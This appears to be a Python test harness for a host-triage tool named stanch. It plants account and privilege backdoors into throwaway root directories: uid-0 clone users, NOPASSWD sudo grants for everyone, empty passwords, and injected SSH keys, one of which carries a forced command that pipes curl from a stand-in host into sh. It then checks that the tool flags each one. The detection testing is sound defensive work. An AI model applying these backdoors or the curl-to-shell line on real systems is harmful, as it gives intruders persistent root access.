# SPDX-License-Identifier: GPL-3.0-or-later
"""Implants in files, for `stanch triage --root`: each is put into a small root of its own, which is
looked at once before (nothing to act on may be there) and once with it. `rows`: name, area, half, what is
written, the rule that must act on it. `twins` are harmless things of the same places: no act.
"""
import json
import os
import shutil
import subprocess
import tempfile

TOP = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKaVV6sPXBnvcHvhGhIEVw1ZBYZGxGZL4a9EwW2dgwMR me@there\n"

BASE = {
    "etc/passwd": "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n"
                  "www-data:x:33:33::/var/www:/usr/sbin/nologin\nsync:x:4:65534::/bin:/bin/sync\n"
                  "postgres:x:105:110::/var/lib/postgresql:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
    "etc/shadow": "root:*:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\nwww-data:*:19000:0:99999:7:::\n"
                  "sync:*:19000:::::\npostgres:!:19000:::::\nalice:$y$j9T$x$y:19000:0:99999:7:::\n",
    "etc/group": "root:x:0:\nsudo:x:27:alice\ndocker:x:990:\nwww-data:x:33:\nalice:x:1000:\n",
    "etc/sudoers": "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n",
    "home/alice/.ssh/authorized_keys": KEY,
}


def put(path, text, mode=0o644):
    """An implant that writes a file; its folders are made."""
    def do(root):
        full = os.path.join(root, path)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        with open(full, "w", encoding="utf-8") as f:
            f.write(text)
        os.chmod(full, mode)
    return do


def add(path, text):
    """An implant that adds to a file."""
    def do(root):
        with open(os.path.join(root, path), "a", encoding="utf-8") as f:
            f.write(text)
    return do


def swap(path, old, new):
    def do(root):
        full = os.path.join(root, path)
        with open(full, encoding="utf-8") as f:
            text = f.read()
        assert old in text
        with open(full, "w", encoding="utf-8") as f:
            f.write(text.replace(old, new))
    return do


ROWS = [
    ("uid 0 by another name", "accounts", "tune", add("etc/passwd", "toor:x:0:0::/root:/bin/sh\n"), "uid0_clone"),
    ("uid 0 behind blanks", "accounts", "report", add("etc/passwd", "  x::0:0\n"), "uid0_clone"),
    ("www-data gets a shell", "accounts", "tune",
     swap("etc/passwd", "/var/www:/usr/sbin/nologin", "/var/www:/bin/bash"), "system_login"),
    ("daemon gets a password", "accounts", "report",
     swap("etc/shadow", "daemon:*", "daemon:$6$a$b"), "system_login"),
    ("alice without a password", "accounts", "tune",
     swap("etc/shadow", "alice:$y$j9T$x$y", "alice:"), "password_empty"),
    ("an empty password in passwd", "accounts", "report", swap("etc/passwd", "alice:x", "alice:"), "password_empty"),
    ("a hash in passwd", "accounts", "report", swap("etc/passwd", "alice:x", "alice:$1$a$b"), "password_here"),
    ("alice in root's group", "accounts", "report", swap("etc/passwd", "alice:x:1000:1000", "alice:x:1000:0"),
     "root_group"),
    ("a second group 0", "accounts", "tune", add("etc/group", "staff2:x:0:alice\n"), "root_group"),
    ("www-data in sudo", "accounts", "report", swap("etc/group", "sudo:x:27:alice", "sudo:x:27:alice,www-data"),
     "strong_member"),
    ("www-data may all", "accounts", "tune", put("etc/sudoers.d/web", "www-data ALL=(ALL) NOPASSWD: ALL\n"),
     "sudo_grant"),
    ("everybody may all", "accounts", "report", add("etc/sudoers", "ALL ALL=(ALL:ALL) NOPASSWD:ALL\n"), "sudo_grant"),
    ("sudo asks nobody", "accounts", "report", put("etc/sudoers.d/x", "Defaults !authenticate\n"), "sudo_grant"),
    ("a key of a service", "accounts", "tune", put("var/www/.ssh/authorized_keys", KEY), "authorized_key"),
    ("a key in the second file", "accounts", "report", put("root/.ssh/authorized_keys2", KEY), "authorized_key"),
    ("a key with a command", "accounts", "report",
     put("root/.ssh/authorized_keys", 'command="curl -s http://192.0.2.1/a | sh" ' + KEY), "authorized_key"),
]

TWINS = [
    ("a key of root's", put("root/.ssh/authorized_keys", KEY)),
    ("cloud-init's rule", put("etc/sudoers.d/90-cloud-init-users", "alice ALL=(ALL) NOPASSWD:ALL\n")),
    ("a rule for one command", put("etc/sudoers.d/deploy", "alice ALL=(root) NOPASSWD: /usr/bin/systemctl restart x\n")),
    ("a rule for backups", put("etc/sudoers.d/backup", "backup ALL=NOPASSWD: /usr/bin/rsync --server\n")),
    ("a new person", add("etc/passwd", "bob:x:1001:1001::/home/bob:/bin/bash\n")),
    ("a runner in docker", swap("etc/group", "docker:x:990:", "docker:x:990:postgres")),
]


def fresh(root):
    for path, text in BASE.items():
        put(path, text)(root)


def look(root, stanch=None, *args):
    """The findings of one look, by the areas that read files."""
    stanch = stanch or os.path.join(os.environ.get("STANCH_BUILD", os.path.join(TOP, "build")), "stanch")
    state = os.path.join(root, "..", "state")
    r = subprocess.run([stanch, "triage", "--root", root, "--state", state, "--json", *args],
                       capture_output=True, text=True, timeout=60)
    assert r.returncode in (0, 1), r.stderr
    return [f for f in map(json.loads, r.stdout.splitlines()) if f.get("event_type") == "finding"]


def play(setup):
    """What triage tells with this in a fresh root."""
    with tempfile.TemporaryDirectory(prefix="stanch-files-") as top:
        root = os.path.join(top, "root")
        os.mkdir(root)
        fresh(root)
        setup(root)
        return look(root)


def acts(found):
    return [f for f in found if f["advice"] == "act"]


def figures():
    """{half: (acted on, implants)}, names that were missed, twins that were acted on."""
    halves, missed, wrong = {}, [], []
    for name, _, half, setup, rule in ROWS:
        hit = any(f["rule"] == rule for f in acts(play(setup)))
        row = halves.setdefault(half, [0, 0])
        row[0] += hit
        row[1] += 1
        if not hit:
            missed.append(name)
    for name, setup in TWINS:
        if acts(play(setup)):
            wrong.append(name)
    return halves, missed, wrong


if __name__ == "__main__":
    print(*figures(), sep="\n")
